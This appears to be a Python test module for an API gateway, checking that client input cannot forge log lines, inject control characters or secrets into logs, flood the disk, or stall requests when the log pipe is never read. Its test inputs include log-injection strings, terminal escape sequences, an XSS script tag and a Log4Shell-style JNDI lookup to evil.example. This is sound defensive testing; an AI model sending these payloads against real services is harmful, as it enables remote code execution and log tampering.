"""Logs: what clients send stays one JSON object a line, short, without control characters and secrets; no client can fill the disk,
and a log that is never read stops nothing."""

import http.client
import json
import os
import time

import wire
from cases import Group
from rig import KEY, Rig, chat

#: Longest line of the log in bytes.
LINE = 8192
FORGED = '\n{"level":"ERROR","message":"forged"}\n'
TEXTS = {
    "1 MB": "m" * 1_000_000, "30 MB": "m" * 30_000_000, "a forged line": FORGED, "CR LF": "a\r\n\r\nforged", "ANSI colours": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H", "title of the terminal": "\x1b]0;evil\x07", "C1 controls": "\x9b31m", "NUL": "a\x00b", "backspaces": "a\b\b\bb",
    "right to left": "\u202egnp.exe", "line separator": "a\u2028b\u2029c", "DEL": "\x7f", "quotes": '","level":"ERROR","x":"', "backslash": "a\\", "format": "{}%s%n$x",
    "a template": "${jndi:ldap://evil.example/a}", "a tag": "<script>alert(1)</script>",
}


def run(programs):
    group = Group("logs")
    with Rig(programs) as rig:
        good = {"authorization": f"Bearer {KEY}"}
        for name, text in TEXTS.items():
            members = {"model": lambda: chat(model=text), "user": lambda: chat(user=text[:1_000_000]), "role": lambda: json.dumps(
                {"model": "amazon.nova-lite-v1:0", "messages": [{"role": text[:1_000_000], "content": "a"}]}).encode()}
            for member, body in members.items():
                def one(name=name, member=member, body=body):
                    status = rig.post("/v1/chat/completions", body(), good)[0]
                    group.check(f"{member} {name}", status, {200, 400, 404} if member == "user" else {400, 404})

                group.attempt(f"{member} {name}", one)
        for header in [b"x-request-id", b"user-agent", b"traceparent", b"x-forwarded-for", b"anthropic-beta", b"x-amzn-bedrock-trace"]:
            for value in [b"\x1b[31mred", b"a\tb", b"\xff\xfe", b"a" * 60_000, b'","level":"ERROR']:
                def one(header=header, value=value):
                    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nauthorization: Bearer " + KEY.encode() + b"\r\n" + header + b": " + value
                    body = chat()
                    with rig.connect() as connection:
                        statuses, closed, _ = wire.exchange(connection, head + b"\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
                        group.check(f"{header.decode()} {value[:20]!r}", wire.outcome(statuses, closed), {"200", "400", "431"})

                group.attempt(f"{header.decode()} {value[:20]!r}", one)
        for path in [b"/a%0aforged", b"/%1b[31m", b"/" + b"a" * 60_000, b"/v1/models/%00", b"/\xc3\xa4", b'/","x":"']:
            with rig.connect() as connection:
                statuses, closed, _ = wire.exchange(connection, b"GET " + path + b" HTTP/1.1\r\nhost: a\r\n" + b"authorization: Bearer " + KEY.encode() + b"\r\n\r\n")
                group.check(f"path {path[:20]!r}", wire.outcome(statuses, closed), {"200", "400", "404", "closed"})
        secret = "sk-looks-like-a-secret-9f8e7d6c"
        for name, headers in [("a key", {"authorization": f"Bearer {secret}"}), ("x-api-key", {"x-api-key": secret}), ("a cookie", {"cookie": secret, **good}),
                              ("a signature", {"authorization": f"AWS4-HMAC-SHA256 Credential={secret}/x, SignedHeaders=host, Signature={secret}"})]:
            group.check(f"a secret as {name}", rig.post("/v1/chat/completions", chat(), headers)[0], {200, 401})
        group.check("a secret in the prompt", rig.post("/v1/chat/completions", chat(secret), good)[0], 200)
        time.sleep(0.5)
        lines = rig.log_lines()
        for at, line in enumerate(lines):
            try:
                entry = json.loads(line)
                forged = entry.get("message") == "forged" or entry.get("fields", {}).get("message") == "forged"
            except ValueError:
                group.failures.append(f"line {at} is not JSON: {line[:200]!r}")
                continue
            text = line.decode()
            controls = [hex(ord(one)) for one in text if not one.isprintable() and one != "\ufffd"]
            if forged or controls or len(line) > LINE:
                group.failures.append(f"line {at}: {len(line)} bytes, control characters {controls}, forged {forged}: {line[:200]!r}")
        group.expect("lines of the log", len(lines) > 50, f"{len(lines)} lines")
        group.expect("no secret and no prompt in the log", secret.encode() not in rig.log.read_bytes(), "found")
        flood(group, rig)
        group.after(rig)
    stuck(group, programs)
    return group


def flood(group, rig):
    """Guesses by many connections for two seconds: ten lines a second."""
    before = len(rig.log_lines())
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nauthorization: Bearer wrong\r\ncontent-length: 0\r\n\r\n"
    sent, started = 0, time.monotonic()
    while time.monotonic() - started < 2 and sent < 30 * 250:
        # Each address may fail thirty times at once.
        with rig.connect(source=f"127.0.6.{sent // 30 % 250 + 1}") as connection:
            connection.sendall(head * 30)
            sent += 30
            received = b""
            while received.count(b"HTTP/1.1 401") < 30:
                received += connection.recv(1 << 16) or b"HTTP/1.1 401" * 30
    time.sleep(0.3)
    lines = len(rig.log_lines()) - before
    most = 10 * (time.monotonic() - started + 2)
    group.figures["rejections"], group.figures["lines_of_rejections"] = sent, lines
    group.expect("lines of rejections", 0 < lines <= most, f"{lines} lines for {sent} rejections")
    counted = rig.metric("bedrock_gateway_requests_total")
    group.expect("all are counted", counted >= sent, f"{counted} of {sent}")


def stuck(group, programs):
    """A log that is never read."""
    reading, writing = os.pipe()
    with Rig(programs, stderr=writing) as rig:
        connection = http.client.HTTPConnection("127.0.0.1", rig.port, timeout=10)
        failed, slowest = 0, 0.0
        for _ in range(1000):
            started = time.monotonic()
            connection.request("POST", "/v1/chat/completions", chat(model="x" * 2000), {"authorization": f"Bearer {KEY}", "content-type": "application/json"})
            response = connection.getresponse()
            response.read()
            failed += response.status >= 500
            slowest = max(slowest, time.monotonic() - started)
        group.expect("stuck log: requests get responses", failed == 0, f"{failed} failed")
        group.expect("stuck log: nothing waits", slowest < 1, f"{slowest:.2f} s")
        group.attempt("stuck log: health", lambda: group.expect("stuck log: health", rig.health() < 1, "slow"))
        group.check("stuck log: a good request", rig.good(), 200)
    os.close(reading)
    os.close(writing)
